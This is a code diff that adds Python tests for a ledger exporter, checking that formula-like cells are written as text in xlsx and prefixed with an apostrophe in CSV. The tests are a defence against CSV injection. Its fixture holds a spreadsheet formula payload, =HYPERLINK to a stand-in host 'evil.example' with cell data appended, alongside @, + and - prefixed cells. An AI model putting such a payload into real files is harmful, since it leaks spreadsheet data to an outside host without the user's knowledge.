@@ -7,6 +7,7 @@ written in a tmp dir (documents only: the ledger needs no vectors).
 from __future__ import annotations
 
 import json
+import zipfile
 from pathlib import Path
 
 import pytest
@@ -223,6 +224,54 @@ def test_csv_round_trips_with_bom(seed, plan, tmp_path) -> None:
     ledger = build_ledger([seed, plan])
     assert read_csv(written[0]) == [measure_record(r) for r in ledger.rows]
     assert read_csv(written[1]) == [rec for r in ledger.rows for rec in target_records(r)]
+
+
+FORMULA_PLAN = """=HYPERLINK("http://evil.example/?"&A1,"点击查看")测试工作方案
+
+一、重点任务
+
+1.@SUM(1+1)建设测试平台。2023年底前建成测试平台不少于5个。(市测试局负责)
+
+2.+培育测试场景。遴选一批示范项目。(-市大数据局、市科技局按分工负责)
+"""
+
+
+@pytest.fixture
+def formula_plan() -> Document:
+    from ingest.loaders import load_bytes
+
+    return parse_document(load_bytes(FORMULA_PLAN.encode("utf-8"), "formula-plan.txt"))
+
+
+def test_xlsx_cells_that_look_like_formulas_are_text(formula_plan, tmp_path) -> None:
+    """Issue 19: a title or measure "=HYPERLINK(…)" was written as a live formula (a link that sends
+    the sheet's data away). Every cell is a string, shown exactly as the document writes it."""
+    import openpyxl
+
+    written = export_ledger([formula_plan], "xlsx", tmp_path / "f.xlsx", chart=False)
+    with zipfile.ZipFile(written[0]) as archive:
+        sheets = [archive.read(n).decode() for n in archive.namelist() if n.startswith("xl/worksheets/sheet")]
+    assert sheets and not any("<f>" in xml or "<f " in xml for xml in sheets)
+    wb = openpyxl.load_workbook(written[0])
+    cells = [c for ws in wb for row in ws.iter_rows() for c in row if c.value is not None]
+    assert all(c.data_type != "f" for c in cells)
+    values = {c.value for c in cells}
+    assert formula_plan.title in values and "@SUM(1+1)建设测试平台" in values and "-市大数据局、市科技局" in values
+
+
+def test_csv_cells_that_look_like_formulas_get_an_apostrophe(formula_plan, tmp_path) -> None:
+    """OWASP CSV injection: a cell starting with = + - @ (or tab, CR) is prefixed with ' so that
+    spreadsheets show it as text; read_csv gives the values back as written."""
+    import csv as csv_module
+
+    written = export_ledger([formula_plan], "csv", tmp_path / "f.csv", chart=False)
+    raw = [cell for path in written for row in csv_module.reader(path.read_text(encoding="utf-8-sig").splitlines())
+           for cell in row]
+    assert "'" + formula_plan.title in raw and "'@SUM(1+1)建设测试平台" in raw and "'+培育测试场景" in raw
+    assert "'-市大数据局、市科技局" in raw
+    assert not [cell for cell in raw if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    ledger = build_ledger([formula_plan])
+    assert read_csv(written[0]) == [measure_record(r) for r in ledger.rows]
 
 
 def test_json_export_of_one_department(seed, tmp_path) -> None:
